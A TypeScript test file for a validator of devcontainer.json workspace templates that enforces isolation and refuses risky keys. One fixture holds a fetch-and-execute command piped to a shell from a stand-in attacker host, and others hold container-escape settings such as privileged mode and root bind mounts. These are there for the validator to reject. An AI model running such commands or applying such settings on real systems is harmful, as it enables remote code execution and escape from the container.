// Pins down which devcontainer.json templates Azusa accepts, what it fills in, and how it reports mistakes.
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { isIP } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import {
  defaultTemplateDir,
  loadTemplates,
  machineHosts,
  parseTemplate,
  TemplateError,
  type TemplateProblem,
  type TemplateResult,
  type WorkspaceTemplate,
} from "./templates.ts";

/** The template of a result that must have parsed. */
function templateOf(result: TemplateResult): WorkspaceTemplate {
  if (!result.ok) throw new Error(`expected the template to parse, got ${JSON.stringify(result.problems, null, 2)}`);
  return result.template;
}

/** The problems of a result that must have failed. */
function problemsOf(result: TemplateResult): TemplateProblem[] {
  if (result.ok) throw new Error("expected the template to be refused");
  return result.problems;
}

/** Parses a template given as an object, with a valid image unless the object says otherwise. */
function parse(template: Record<string, unknown>): TemplateResult {
  return parseTemplate("t", JSON.stringify({ image: "busybox:latest", ...template }));
}

const withAzusa = (azusa: Record<string, unknown>) => parse({ customizations: { azusa } });

describe("parseTemplate", () => {
  it("gives a template with only an image every deny-by-default setting", () => {
    expect(templateOf(parseTemplate("tiny", '{ "image": "busybox:latest" }'))).toEqual({
      name: "tiny",
      image: "busybox:latest",
      remoteUser: "azusa",
      containerEnv: {},
      forwardPorts: [],
      postCreateCommand: null,
      hostRequirements: { cpus: 2, memoryMiB: 4096, storageGiB: null },
      azusa: {
        resources: { cpus: 2, memoryMiB: 4096, pids: 512, diskMiB: 10240 },
        readOnlyRootFs: true,
        network: { allow: [] },
        ssh: {
          fileTransfer: false,
          git: false,
          portForwarding: [],
          agentForwarding: false,
          x11: false,
          remoteForwarding: [],
        },
        idleTimeoutMinutes: 60,
        idePort: null,
        ideCommand: null,
        workspaceFolder: "/workspace",
        services: [],
        hostLabels: {},
        diskLimitRequired: false,
      },
    });
  });

  it("takes services by process name, and refuses what no process is named", () => {
    const named = parseTemplate(
      "svc",
      '{ "image": "busybox:latest", "customizations": { "azusa": { "services": ["postgres", "redis-server"] } } }',
    );
    expect(templateOf(named).azusa.services).toEqual(["postgres", "redis-server"]);
    const bad = parseTemplate(
      "svc",
      '{ "image": "busybox:latest", "customizations": { "azusa": { "services": ["/usr/bin/postgres", "a name far too long"] } } }',
    );
    expect(bad.ok).toBe(false);
    if (!bad.ok) {
      expect(bad.problems.map((p) => p.path)).toEqual([
        "customizations.azusa.services.0",
        "customizations.azusa.services.1",
      ]);
    }
  });

  it("reads comments and trailing commas, and leaves // inside strings alone", () => {
    const text = `{
      // the image every engineer gets
      "image": "azusa/workspace-base:bookworm", /* pinned by the operator */
      "containerEnv": { "NPM_CONFIG_REGISTRY": "https://registry.example.com/", },
      "forwardPorts": [8080,],
    }`;
    const template = templateOf(parseTemplate("commented", text));
    expect(template.containerEnv).toEqual({ NPM_CONFIG_REGISTRY: "https://registry.example.com/" });
    expect(template.forwardPorts).toEqual([8080]);
  });

  it("says where a file stops being JSON", () => {
    expect(problemsOf(parseTemplate("broken", '{\n  "image": "busybox"\n  "remoteUser": "azusa"\n}'))).toEqual([
      { path: "", message: expect.stringContaining("line 3, column 3") },
    ]);
    expect(problemsOf(parseTemplate("broken", '{ "image": "busybox" /* never closed }'))).toEqual([
      { path: "", message: expect.stringContaining("unterminated /* comment at line 1, column 22") },
    ]);
  });

  it("refuses every key that could weaken isolation, naming each one", () => {
    const refused = {
      runArgs: ["--privileged"],
      privileged: true,
      mounts: ["source=/,target=/host,type=bind"],
      capAdd: ["SYS_ADMIN"],
      securityOpt: ["seccomp=unconfined"],
      appPort: [22],
      workspaceMount: "source=/srv,target=/workspace,type=bind",
      dockerComposeFile: "compose.yml",
      build: { dockerfile: "Dockerfile" },
      initializeCommand: "curl evil.example | sh",
      shutdownAction: "none",
      overrideCommand: false,
      features: { "ghcr.io/devcontainers/features/docker-in-docker:2": {} },
    };
    const problems = problemsOf(parse(refused));
    expect(problems.map((p) => p.path)).toEqual(Object.keys(refused));
    for (const { path, message } of problems) {
      expect(message).toMatch(new RegExp(`^"${path}" is not allowed: it could weaken the workspace's isolation`));
    }
    expect(problems[0]).toEqual({
      path: "runArgs",
      message: `"runArgs" is not allowed: it could weaken the workspace's isolation`,
    });
    expect(problems.find((p) => p.path === "initializeCommand")?.message).toContain("runs on the Docker host");
    expect(problems.find((p) => p.path === "build")?.message).toContain("no image builds from templates");
  });

  it("accepts and ignores init, since Azusa's driver decides PID 1 itself", () => {
    expect(templateOf(parse({ init: true })).name).toBe("t");
  });

  it("accepts and ignores the harmless devcontainer keys Azusa does not use", () => {
    const template = templateOf(
      parse({
        name: "Shown in the IDE",
        remoteEnv: { EDITOR: "vim" },
        waitFor: "postCreateCommand",
        updateContentCommand: "npm ci",
        postStartCommand: "echo started",
        postAttachCommand: "echo attached",
        portsAttributes: { "8080": { label: "app" } },
        otherPortsAttributes: { onAutoForward: "ignore" },
        userEnvProbe: "loginShell",
        containerUser: "azusa",
        customizations: { vscode: { extensions: ["dbaeumer.vscode-eslint"] } },
      }),
    );
    expect(template).not.toHaveProperty("remoteEnv");
    expect(template.name).toBe("t");
  });

  it("refuses root as the remote or container user, by name or by uid", () => {
    expect(problemsOf(parse({ remoteUser: "root", containerUser: "0" }))).toEqual([
      { path: "remoteUser", message: "must not be root: workspaces run as an unprivileged user" },
      { path: "containerUser", message: "must not be root: workspaces run as an unprivileged user" },
    ]);
  });

  it("names unknown top-level keys, so that a typo cannot pass silently", () => {
    expect(problemsOf(parseTemplate("typo", '{ "imgae": "busybox:latest" }'))).toEqual([
      { path: "imgae", message: 'unknown key "imgae": not a devcontainer.json property Azusa accepts' },
      { path: "image", message: "is required" },
    ]);
    // Names an object inherits are not devcontainer keys either.
    expect(problemsOf(parse({ toString: "x" }))).toEqual([
      { path: "toString", message: expect.stringContaining("unknown key") },
    ]);
  });

  it("names unknown keys under customizations with their dotted path", () => {
    expect(
      problemsOf(parse({ customizations: { azuza: {}, azusa: { resources: { memoryMb: 512 }, sshh: {} } } })),
    ).toEqual([
      { path: "customizations.azusa.resources.memoryMb", message: 'unknown key "memoryMb"' },
      { path: "customizations.azusa.sshh", message: 'unknown key "sshh"' },
      { path: "customizations.azuza", message: 'unknown key "azuza"' },
    ]);
  });

  it("reports every out-of-range setting at once, each at its dotted path", () => {
    const problems = problemsOf(
      withAzusa({
        resources: { cpus: 0, memoryMiB: 32, pids: 10_000 },
        idleTimeoutMinutes: 2,
        idePort: 70_000,
        readOnlyRootFs: "yes",
        workspaceFolder: "/workspace/../etc",
      }),
    );
    expect(problems).toEqual([
      { path: "customizations.azusa.resources.cpus", message: "must be at least 0.1" },
      { path: "customizations.azusa.resources.memoryMiB", message: "must be at least 64" },
      { path: "customizations.azusa.resources.pids", message: "must be at most 4096" },
      { path: "customizations.azusa.readOnlyRootFs", message: "must be true or false" },
      { path: "customizations.azusa.idleTimeoutMinutes", message: "must be at least 5" },
      { path: "customizations.azusa.idePort", message: "must be at most 65535" },
      { path: "customizations.azusa.workspaceFolder", message: 'must not contain "." or ".."' },
    ]);
  });

  it("takes the command that starts a template's IDE as arguments or as a shell line", () => {
    const vector = ["code-server", "--auth", "none", "--bind-addr", "127.0.0.1:8443", "/workspace"];
    expect(templateOf(withAzusa({ idePort: 8443, ideCommand: vector })).azusa).toMatchObject({
      idePort: 8443,
      ideCommand: vector,
    });
    expect(
      templateOf(withAzusa({ idePort: 3000, ideCommand: "openvscode-server --port 3000" })).azusa.ideCommand,
    ).toEqual(["/bin/sh", "-c", "openvscode-server --port 3000"]);
  });

  it("refuses an IDE command without the port it listens on, and an empty one", () => {
    expect(problemsOf(withAzusa({ ideCommand: "code-server" }))).toEqual([
      {
        path: "customizations.azusa.ideCommand",
        message: "needs customizations.azusa.idePort: the port the IDE listens on",
      },
    ]);
    expect(problemsOf(withAzusa({ idePort: 8443, ideCommand: [] }))).toEqual([
      { path: "customizations.azusa.ideCommand", message: "must have at least 1 item(s)" },
    ]);
  });

  it("takes allowed destinations as host:port strings or objects", () => {
    const template = templateOf(
      withAzusa({
        network: { allow: ["Registry.Example.com:443", "[2001:db8::1]:443", { host: "203.0.113.3", port: 5432 }] },
        ssh: { sftp: true, portForwarding: ["localhost:3000"], remoteForwarding: [8080] },
      }),
    );
    expect(template.azusa.network.allow).toEqual([
      { host: "registry.example.com", port: 443 },
      { host: "2001:db8::1", port: 443 },
      { host: "203.0.113.3", port: 5432 },
    ]);
    expect(template.azusa.ssh).toEqual({
      fileTransfer: true,
      git: false,
      portForwarding: [{ host: "localhost", port: 3000 }],
      agentForwarding: false,
      x11: false,
      remoteForwarding: [8080],
    });
  });

  it("refuses wildcards, address ranges, missing ports and ports out of range in the allow-list", () => {
    const problems = problemsOf(
      withAzusa({
        network: {
          allow: [
            "*.example.com:443",
            "10.0.0.0/8:443",
            "github.com",
            "2001:db8::1:443",
            "example.com:0",
            "999.1.1.1:80",
          ],
        },
      }),
    );
    const at = "customizations.azusa.network.allow";
    expect(problems).toEqual([
      { path: `${at}.0.host`, message: "wildcards are not allowed: name each host" },
      { path: `${at}.1.host`, message: "address ranges (CIDR) are not allowed: name each address" },
      { path: `${at}.2`, message: expect.stringContaining('must be "host:port"') },
      { path: `${at}.3`, message: expect.stringContaining('"[address]:port" for IPv6') },
      { path: `${at}.4.port`, message: "must be at least 1" },
      { path: `${at}.5.host`, message: "is not a valid IP address" },
    ]);
  });

  it("refuses an allow-list entry that reaches this machine, link-local or metadata addresses, naming each", () => {
    const allow = [
      "registry.example.com:443",
      "127.0.0.1:5432",
      "127.8.9.10:80",
      "[::1]:22",
      "localhost:8080",
      "api.localhost:80",
      "169.254.169.254:80",
      "[fe80::1]:80",
      "[::ffff:127.0.0.1]:80",
      "0.0.0.0:8080",
      "192.0.2.77:443",
      "azusa-host:443",
      "198.51.100.3:443",
    ];
    const result = parseTemplate(
      "t",
      JSON.stringify({ image: "busybox:latest", customizations: { azusa: { network: { allow } } } }),
      { diskMiB: 10240, ownHosts: ["192.0.2.77", "azusa-host"] },
    );
    const at = "customizations.azusa.network.allow";
    expect(problemsOf(result)).toEqual(
      [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map((i) => ({
        path: `${at}.${i}`,
        message: expect.stringContaining("a workspace may never reach"),
      })),
    );
    expect(problemsOf(result)[0]?.message).toMatch(/^"127\.0\.0\.1" names this machine/);
    expect(problemsOf(result)[10]?.message).toBe(
      '"azusa-host" is this machine\'s own name, which a workspace may never reach',
    );
  });

  it("lets an entry lead to private addresses only when it says so, naming one that names a private address without", () => {
    const allow = [
      "10.1.2.3:443",
      { host: "10.1.2.4", port: 443, privateNetwork: true },
      { host: "registry.client.internal", port: 443, privateNetwork: true },
      "[fd00::5]:443",
      { host: "mirror.example.com", port: 80, privateNetwork: "yes" },
    ];
    const at = "customizations.azusa.network.allow";
    expect(problemsOf(withAzusa({ network: { allow } }))).toEqual([
      { path: `${at}.4.privateNetwork`, message: "must be true or false" },
    ]);
    expect(problemsOf(withAzusa({ network: { allow: allow.slice(0, 4) } }))).toEqual(
      [0, 3].map((i) => ({
        path: `${at}.${i}`,
        message: expect.stringContaining('is a private address: say "privateNetwork": true in its entry to allow it'),
      })),
    );
    const template = templateOf(withAzusa({ network: { allow: allow.slice(1, 3) } }));
    expect(template.azusa.network.allow).toEqual([
      { host: "10.1.2.4", port: 443, privateNetwork: true },
      { host: "registry.client.internal", port: 443, privateNetwork: true },
    ]);
  });

  it("refuses this machine's own addresses, read from its interfaces when not given", () => {
    const own = machineHosts().find((h) => isIP(h) === 4 && !h.startsWith("127."));
    if (!own) throw new Error("this machine has no IPv4 address besides loopback to test with");
    expect(problemsOf(withAzusa({ network: { allow: [`${own}:443`] } }))).toEqual([
      {
        path: "customizations.azusa.network.allow.0",
        message: `"${own}" is an address of this machine, which a workspace may never reach`,
      },
    ]);
  });

  it("sizes the workspace volume from the template, or from the setting when it names none", () => {
    expect(templateOf(withAzusa({ resources: { diskMiB: 2048 } })).azusa.resources.diskMiB).toBe(2048);
    const template = templateOf(parseTemplate("t", '{ "image": "busybox:latest" }', { diskMiB: 512 }));
    expect(template.azusa.resources.diskMiB).toBe(512);
    expect(problemsOf(withAzusa({ resources: { diskMiB: 10 } }))).toEqual([
      { path: "customizations.azusa.resources.diskMiB", message: "must be at least 64" },
    ]);
  });

  it("checks environment variable names and requires string values", () => {
    expect(problemsOf(parse({ containerEnv: { "1PASSWORD": "x", "MY-VAR": "y", PORT: 8080, OK_NAME: "z" } }))).toEqual([
      { path: "containerEnv.1PASSWORD", message: expect.stringContaining("is not a valid environment variable name") },
      { path: "containerEnv.MY-VAR", message: expect.stringContaining("is not a valid environment variable name") },
      { path: "containerEnv.PORT", message: "must be a string" },
    ]);
  });

  it("requires the image to be a Docker reference", () => {
    for (const image of [
      "busybox:latest",
      "azusa/workspace-base:bookworm",
      `registry.local:5000/team/img@sha256:${"a".repeat(64)}`,
    ]) {
      expect(templateOf(parse({ image })).image).toBe(image);
    }
    for (const image of ["busybox latest", "", "Busybox", "busybox:", 42]) {
      expect(problemsOf(parse({ image }))).toEqual([{ path: "image", message: expect.any(String) }]);
    }
  });

  it("runs a string postCreateCommand through /bin/sh and keeps an argument array as it is", () => {
    expect(templateOf(parse({ postCreateCommand: "npm ci && npm test" })).postCreateCommand).toEqual([
      "/bin/sh",
      "-c",
      "npm ci && npm test",
    ]);
    expect(templateOf(parse({ postCreateCommand: ["npm", "ci"] })).postCreateCommand).toEqual(["npm", "ci"]);
    expect(problemsOf(parse({ postCreateCommand: { setup: "npm ci" } }))).toEqual([
      { path: "postCreateCommand", message: "must be a command string or a non-empty array of arguments" },
    ]);
  });

  it("reads host requirements in devcontainer sizes, defaulting to the workspace's own resources", () => {
    expect(
      templateOf(parse({ hostRequirements: { cpus: 4, memory: "8gb", storage: "32gb" } })).hostRequirements,
    ).toEqual({ cpus: 4, memoryMiB: 8192, storageGiB: 32 });
    expect(templateOf(withAzusa({ resources: { cpus: 0.5, memoryMiB: 1024 } })).hostRequirements).toEqual({
      cpus: 1,
      memoryMiB: 1024,
      storageGiB: null,
    });
    expect(problemsOf(parse({ hostRequirements: { memory: "8 GB", gpu: true } }))).toEqual([
      { path: "hostRequirements.memory", message: 'must be a size such as "8gb" or "512mb"' },
      { path: "hostRequirements.gpu", message: "GPUs are not offered: workspaces get no host devices" },
    ]);
  });

  it("refuses a template name that could not label a container", () => {
    expect(problemsOf(parseTemplate("my template", '{ "image": "busybox:latest" }'))).toEqual([
      { path: "", message: expect.stringContaining('template name "my template"') },
    ]);
  });
});

describe("loadTemplates", () => {
  const dirs: string[] = [];
  afterEach(async () => {
    await Promise.all(dirs.splice(0).map((dir) => rm(dir, { recursive: true, force: true })));
  });

  /** A temporary directory holding the given files. */
  async function dirWith(files: Record<string, string>): Promise<string> {
    const dir = await mkdtemp(join(tmpdir(), "azusa-templates-"));
    dirs.push(dir);
    for (const [name, text] of Object.entries(files)) await writeFile(join(dir, name), text);
    return dir;
  }

  it("loads the shipped default template without problems", async () => {
    const templates = await loadTemplates(defaultTemplateDir);
    expect(templates.get("default")).toMatchObject({
      image: "azusa/workspace-base:bookworm",
      remoteUser: "azusa",
      azusa: {
        network: { allow: [] },
        ssh: { fileTransfer: false, git: false, portForwarding: [] },
        readOnlyRootFs: true,
      },
    });
    const text = await readFile(join(defaultTemplateDir, "default.devcontainer.json"), "utf8");
    expect(parseTemplate("default", text).ok).toBe(true);
  });

  it("loads every *.devcontainer.json in a directory, named after its file, and nothing else", async () => {
    const dir = await dirWith({
      "node.devcontainer.json": '{ "image": "azusa/node:22" }',
      "java.devcontainer.json": '{ "image": "azusa/java:21", // LTS\n }',
      "README.md": "# not a template",
      "notes.json": "{}",
    });
    const templates = await loadTemplates(dir);
    expect([...templates.keys()]).toEqual(["java", "node"]);
    expect(templates.get("node")?.image).toBe("azusa/node:22");
  });

  it("throws an error naming every bad file and each of its problems", async () => {
    const dir = await dirWith({
      "good.devcontainer.json": '{ "image": "busybox:latest" }',
      "escape.devcontainer.json": '{ "image": "busybox:latest", "privileged": true, "remoteUser": "root" }',
      "tiny.devcontainer.json":
        '{ "image": "busybox:latest", "customizations": { "azusa": { "resources": { "memoryMiB": 16 } } } }',
    });
    const error: unknown = await loadTemplates(dir).catch((err: unknown) => err);
    expect(error).toBeInstanceOf(TemplateError);
    expect((error as TemplateError).message).toBe(
      [
        `invalid workspace templates in ${dir}:`,
        "  escape.devcontainer.json:",
        `    - privileged: "privileged" is not allowed: it could weaken the workspace's isolation`,
        "    - remoteUser: must not be root: workspaces run as an unprivileged user",
        "  tiny.devcontainer.json:",
        "    - customizations.azusa.resources.memoryMiB: must be at least 64",
      ].join("\n"),
    );
  });
});
